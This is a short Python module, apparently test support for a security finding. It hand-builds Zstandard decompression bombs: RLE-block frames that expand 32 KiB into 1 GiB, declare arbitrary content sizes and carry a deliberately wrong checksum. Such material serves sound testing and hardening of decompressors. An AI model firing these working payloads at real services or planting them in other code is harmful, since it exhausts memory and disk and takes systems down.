"""zstd frames built by hand the way an attacker builds them: a few kilobytes that expand to
gigabytes, with whatever content size the attacker cares to declare.

Frame layout from RFC 8878 (Zstandard), section 3.1.1: magic number, frame header descriptor,
window descriptor, frame content size, then blocks of a 3-byte header each. An RLE block
(Block_Type 1) repeats one byte Block_Size times, so every 4 bytes on the wire expand to
128 KiB. The checksum is left wrong: a decompressor finds out only after writing everything.
"""

from __future__ import annotations

import struct

MAGIC = b"\x28\xb5\x2f\xfd"
BLOCK = 128 * 1024
RLE_BLOCK = 1
GIB = 1 << 30


def rle_bomb(declared: int | None, blocks: int, checksum: bool = True) -> bytes:
    """A frame of `blocks` RLE blocks of 128 KiB zeros, declaring `declared` bytes of content
    (None: no size declared, as a streaming compressor writes it)."""
    size_flag, size_field = (0, b"") if declared is None else (3, struct.pack("<Q", declared))
    descriptor = (size_flag << 6) | (0b100 if checksum else 0)
    window = bytes([10 << 3])  # 2^(10+10) = 1 MiB, what a level-6 compressor asks for
    frame = bytearray(MAGIC + bytes([descriptor]) + window + size_field)
    for number in range(blocks):
        last = number == blocks - 1
        header = int(last) | (RLE_BLOCK << 1) | (BLOCK << 3)
        frame += struct.pack("<I", header)[:3] + b"\0"
    if checksum:
        frame += b"\0\0\0\0"
    return bytes(frame)


def one_gib_in_32_kib() -> bytes:
    """The finding's frame: 8,192 RLE blocks (32 KiB on the wire) declaring 1 GiB."""
    return rle_bomb(GIB, GIB // BLOCK)
